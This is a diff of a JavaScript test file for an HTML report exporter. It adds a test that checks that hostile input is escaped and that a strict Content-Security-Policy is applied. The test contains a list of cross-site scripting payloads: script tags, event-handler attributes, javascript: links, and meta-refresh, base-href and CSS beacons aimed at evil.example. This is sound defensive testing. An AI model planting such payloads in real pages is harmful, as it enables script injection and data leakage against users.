@@ -31,7 +31,7 @@ it('a notebook is one by Jupyter’s own schema, with every piece of code and ev
 
 it('a page loads nothing and runs nothing, whatever stands in answers, results and charts', () => {
   const html = toHtmlReport(report);
-  expect(html).toContain(`content="default-src 'none'; img-src data:; style-src 'unsafe-inline'"`);
+  expect(html).toContain(`content="default-src 'none'; img-src data:; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"`);
   expect(html).not.toMatch(/<script/i);
   expect(html).toContain('&lt;script&gt;alert(1)');
   // Charts and pictures stand in images, where script in an SVG is dead.
@@ -39,6 +39,91 @@ it('a page loads nothing and runs nothing, whatever stands in answers, results a
   expect(sources).toHaveLength(2);
   for (const source of sources) expect(source).toMatch(/^data:image\//);
   expect(html).not.toMatch(/(?:src|href)="(?!data:)/);
+});
+
+/** What a cell, a column's name, a file's name, an error or an answer may be in the hands of somebody who means harm. */
+const hostile = [
+  '<script>alert(1)</script>',
+  '</title></style></pre></table><script src=//evil.example></script>',
+  '"><img src=x onerror=alert(1)>',
+  "' onmouseover='alert(1)",
+  '" style="position:fixed;background:url(https://evil.example/x)',
+  '[click](javascript:alert(1))',
+  '![x](https://evil.example/pixel.png)',
+  '<a href="javascript:alert(1)">x</a>',
+  '<svg onload=alert(1)><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
+  '<style>body{background:url(https://evil.example)}</style>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example>',
+  '&lt;script&gt; &#60;script&#62; \u0000<\u2028script>',
+  ']]><!--<script>',
+];
+const allowedTags =
+  'html head meta title style body header h1 h2 h3 p time article b strong em code pre blockquote ol ul li div table caption thead tbody tfoot tr th td figure img details summary footer'.split(
+    ' ',
+  );
+
+it.each(hostile)('%j is text wherever it stands in a page: no tag, attribute or address comes of it', (text) => {
+  const [run] = report.runs;
+  const [step] = run!.code;
+  const table = { ...step!.tables[0]!, name: text, columns: [{ name: text, type: 'string' as const }], rows: [[text]] };
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg"><text>${text}</text></svg>`;
+  const html = toHtmlReport({
+    ...report,
+    title: text,
+    runs: [
+      {
+        ...run!,
+        question: text,
+        model: text,
+        plans: [text],
+        answer: `${text}\n\n# ${text}\n\n- ${text}\n\n> ${text}\n\n**${text}** *${text}* \`${text}\`\n\n| ${text} |\n| --- |\n| ${text} |`,
+        problem: text,
+        unfound: [text],
+        files: [{ file: text, sha256: 'ab'.repeat(32), rowCount: 1 }],
+        code: [
+          {
+            ...step!,
+            code: text,
+            stdout: text,
+            heldBack: [text],
+            tables: [table],
+            charts: [{ spec: {}, svg }],
+            images: [{ name: text, mime: text, base64: 'iVBORw0KGgo=' }],
+          },
+        ],
+      },
+    ],
+    provenance: { ...report.provenance, appVersion: text, engines: [{ name: text, version: text }] },
+  });
+  const markup = html.replace(/<style>[^<]*<\/style>/, '<style></style>').replace('<!doctype html>', '');
+  const tags = [...markup.matchAll(/<(\/?)([^\s>/]*)((?:[^>"']|"[^"]*")*)>/g)];
+  expect(tags.length).toBe(markup.split('<').length - 1);
+  for (const [whole, , name, attributes] of tags) {
+    expect(allowedTags, whole).toContain(name);
+    const names = [...attributes!.replace(/"[^"]*"/g, '""').matchAll(/[^\s=]+(?==)/g)].map(([word]) => word);
+    for (const word of names)
+      expect([
+        'lang',
+        'charset',
+        'http-equiv',
+        'content',
+        'name',
+        'class',
+        'datetime',
+        'alt',
+        'src',
+        'start',
+        'colspan',
+      ]).toContain(word);
+    if (name === 'img') expect(attributes).toMatch(/ src="data:/);
+    if (name === 'meta') expect(whole).not.toContain('evil');
+  }
+  // The policy stands before anything of a file's, and allows no script, frame, form or address.
+  const policyAt = html.indexOf('Content-Security-Policy');
+  expect(policyAt).toBeGreaterThan(0);
+  expect(policyAt).toBeLessThan(html.indexOf('<title>'));
+  expect(html).toContain(`content="default-src 'none'; img-src data:; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"`);
 });
 
 it.each([
